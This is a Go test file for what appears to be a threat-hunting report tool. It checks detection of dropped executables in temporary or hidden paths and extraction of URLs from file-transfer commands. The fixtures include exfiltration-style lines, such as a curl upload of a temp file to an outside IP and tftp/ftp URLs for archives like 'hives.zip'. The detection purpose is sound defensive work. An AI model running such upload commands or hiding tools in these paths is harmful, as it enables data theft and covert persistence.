package report

import "testing"

// TestDroppedPath: a program or script run from a temporary folder or a
// hidden path is a dropped tool to hunt; a dot-folder right in a home
// directory is where the account's own tools install.
func TestDroppedPath(t *testing.T) {
	for _, c := range []struct {
		path string
		want bool
	}{
		{"/tmp/.sysd", true},
		{"/dev/shm/.kworker/kworkerds", true},
		{"/var/tmp/.ICE-unix/.wd.sh", true},
		{"/var/cache/ldconfig/.aux/ld-sync", true},
		{"/srv/ledger/.cache/ledger-gc", true},
		{"/root/.pyenv/bin/pyenv", false},
		{"/home/alice/.local/bin/tool", false},
		{"/home/alice/.cache/.x/y", true},
		{"/root/.ssh/.k", true},
		{"/usr/bin/curl", false},
		{"/srv/app/manage.py", false},
		{"relative/.x", false},
		{"/tmp/../usr/bin/id", false},
	} {
		if got := droppedPath(c.path); got != c.want {
			t.Errorf("droppedPath(%q) = %v, want %v", c.path, got, c.want)
		}
	}
}

// TestArgURLs: the URLs a transfer's command names, scheme first, without
// the shell's quoting around them.
func TestArgURLs(t *testing.T) {
	for _, c := range []struct {
		arg  string
		want []string
	}{
		{"tftp://127.0.0.1:6969/hives.zip", []string{"tftp://127.0.0.1:6969/hives.zip"}},
		{"curl -s -T /tmp/x 'https://198.51.100.7/u?a=1'; echo", []string{"https://198.51.100.7/u?a=1"}},
		{"ftp://drop:pw@127.0.0.1:2121/a.tgz", []string{"ftp://drop:pw@127.0.0.1:2121/a.tgz"}},
		{"/var/tmp/file", nil},
		{"file:///etc/passwd", nil},
	} {
		got := argURLRE.FindAllString(c.arg, 4)
		if len(got) != len(c.want) || len(got) > 0 && got[0] != c.want[0] {
			t.Errorf("URLs of %q = %q, want %q", c.arg, got, c.want)
		}
	}
}
